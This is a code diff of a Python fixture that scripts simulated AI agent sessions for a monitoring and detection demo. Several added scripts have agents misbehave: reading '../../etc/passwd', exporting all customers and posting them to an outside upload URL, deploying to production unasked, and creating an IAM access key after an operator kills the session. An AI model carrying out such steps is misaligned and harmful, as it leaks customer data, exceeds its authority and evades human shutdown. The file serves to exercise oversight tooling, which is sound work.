@@ -1,4 +1,8 @@
-"""What the demo's three agents do: two runs each, step by step. Their policies lie in policies/."""
+"""What the demo's five agents do, step by step. Their policies lie in policies/.
+
+One of them does its work. The others give their operator, and the detectors, something to do: one deletes what is still
+needed, one cannot stop trying, one spends all it may, one does what it never did.
+"""
 
 from __future__ import annotations
 
@@ -19,7 +23,8 @@ class Think:
 class Act:
     """A tool call: asked for first, done only when it is allowed. `error`: what goes wrong when it is done.
 
-    `until_seen`: it lasts until somebody has asked what this agent is doing right now.
+    `until_seen`: it lasts until somebody has asked what this agent is doing right now. `waits`: where a human is asked, it
+    waits for the answer. In a resource, {run} stands for what no earlier demo had, {n} for a number of its own.
     """
 
     service: str
@@ -30,14 +35,30 @@ class Act:
     takes: float = 0.5
     error: str = ""
     until_seen: bool = False
+    waits: bool = False
+
+
+@dataclass(frozen=True)
+class Killed:
+    """Here an operator kills the session. The agent goes on as if nothing were."""
+
+
+@dataclass(frozen=True)
+class Again:
+    """The same steps again and again, until the agent was denied something `denials` times; `most` times if it never is."""
+
+    steps: list[Think | Act]
+    most: int = 14
+    denials: int = 1
 
 
 @dataclass(frozen=True)
 class Run:
-    """One session."""
+    """One session, or several of the same kind, one after another."""
 
     prompt: str
-    steps: list[Think | Act]
+    steps: list[Think | Act | Killed | Again]
+    times: int = 1
 
 
 @dataclass(frozen=True)
@@ -51,10 +72,13 @@ class Script:
 
 
 INVOICES = "arn:aws:s3:::invoice-data"
+BILLING, PLATFORM = "billing-automation", "platform"
+INVOICE, REPORT, REFUNDS = "claude-invoice-01", "claude-report-02", "claude-refunds-03"
+DEPLOY, TESTS = "deploy-bot-04", "test-runner-05"
 
 SCRIPTS: dict[str, Script] = {
-    "claude-invoice-01": Script(
-        "billing-automation", "ann@acme.example", "claude-sonnet-4-5",
+    INVOICE: Script(
+        BILLING, "ann@acme.example", "claude-sonnet-4-5",
         [
             Run("Put November's invoices into the archive and fix the rounding of late fees.", [
                 Think(4100, 210),
@@ -64,7 +88,7 @@ SCRIPTS: dict[str, Script] = {
                 Think(5200, 640, 0.9),
                 Act("git", "pull", "acme/billing", "feature/late-fees"),
                 Act("git", "push", "acme/billing", "feature/late-fees", takes=0.7),
-                Act("git", "push", "acme/billing", "main", args={"force": False}),
+                Act("git", "push", "acme/billing", "main", args={"force": False}, waits=True),
             ]),
             Run("Customer 7 says that she was charged twice.", [
                 Think(2300, 120),
@@ -77,15 +101,43 @@ SCRIPTS: dict[str, Script] = {
             ]),
         ],
     ),
-    "deploy-bot-02": Script(
-        "platform", "platform-team", "claude-haiku-4-5",
+    REPORT: Script(
+        BILLING, "ann@acme.example", "claude-opus-4-1",
+        [
+            Run("Summarise every invoice of the year, one by one, with all attachments.", [
+                Act("files", "read", "reports/../../etc/passwd"),
+                Again([
+                    Think(5600, 400, 0.3),
+                    Act("stripe", "invoices:read", "invoice/in_30{n}", takes=0.2),
+                ]),
+            ]),
+        ],
+    ),
+    REFUNDS: Script(
+        BILLING, "bob@acme.example", "claude-haiku-4-5",
+        [
+            Run("Is ticket 17 about a refund?", [
+                Think(600, 40, 0.2),
+                Act("tickets", "read", "ticket/17", takes=0.1),
+                Act("stripe", "charges:read", "charge/ch_0017", takes=0.1),
+                Act("tickets", "comment", "ticket/17", takes=0.1),
+            ], times=6),
+            Run("Is ticket 18 about a refund?", [
+                Think(600, 40, 0.2),
+                Act("tickets", "read", "ticket/18", takes=0.1),
+                Act("customers", "export", "customers/all-{run}", takes=0.2),
+                Act("http", "post", "files.example/upload-{run}", takes=0.2),
+            ]),
+        ],
+    ),
+    DEPLOY: Script(
+        PLATFORM, "platform-team", "claude-haiku-4-5",
         [
             Run("Bring build 512 of the API to staging.", [
                 Think(1500, 90, 0.4),
                 Act("kubernetes", "get", "staging/deployments/api"),
                 Act("terraform", "plan", "staging", takes=1.4),
                 Act("kubernetes", "rollout", "staging/deployments/api", args={"image": "api:512"}, takes=1.1),
-                Act("kubernetes", "get", "staging/deployments/api"),
                 Act("kubernetes", "get", "production/deployments/api"),
                 Act("kubernetes", "rollout", "production/deployments/api", args={"image": "api:512"}),
             ]),
@@ -93,31 +145,23 @@ SCRIPTS: dict[str, Script] = {
                 Think(1200, 70, 0.4),
                 Act("kubernetes", "list", "staging/pods"),
                 Act("kubernetes", "delete", "staging/pods/load-test-1"),
+                Killed(),
                 Act("aws", "iam:CreateAccessKey", "arn:aws:iam::123456789012:user/load-test"),
                 Act("terraform", "plan", "staging", takes=1.2),
                 Act("kubernetes", "list", "production/pods"),
             ]),
         ],
     ),
-    "web-research-03": Script(
-        "research", "bob@acme.example", "claude-sonnet-4-5",
+    TESTS: Script(
+        PLATFORM, "platform-team", "claude-sonnet-4-5",
         [
-            Run("What is new in structured concurrency? Write notes.", [
-                Think(3100, 150),
-                Act("http", "get", "docs.python.example/3/library/asyncio-task", takes=0.8),
-                Act("http", "get", "arxiv.example/abs/2611.01234", takes=0.9),
-                Act("http", "get", "pastebin.example/raw/x7", takes=0.4),
-                Think(9800, 900, 1.2),
-                Act("files", "write", "notes/structured-concurrency.md", args={"bytes": 5321}),
-                Act("email", "send", "bob@acme.example", args={"subject": "structured concurrency"}),
-            ]),
-            Run("Check the sources of last week's notes.", [
-                Think(1800, 110),
-                Act("files", "read", "notes/actors.md"),
-                Act("http", "get", "arxiv.example/abs/2610.00017", takes=0.8, error="timed out"),
-                Act("http", "get", "arxiv.example/abs/2610.00017", takes=0.8),
-                Act("files", "read", "notes/../../etc/passwd"),
-                Act("files", "write", "notes/actors.md", args={"bytes": 3120}),
+            Run("Make the tests of build 512 pass.", [
+                Think(2100, 150, 0.4),
+                Act("git", "pull", "acme/api", "fix/flaky-test"),
+                Again([
+                    Think(3900, 120, 0.2),
+                    Act("ci", "run", "acme/api", "fix/flaky-test", takes=0.3, error="2 of 812 tests failed"),
+                ], denials=6),
             ]),
         ],
     ),
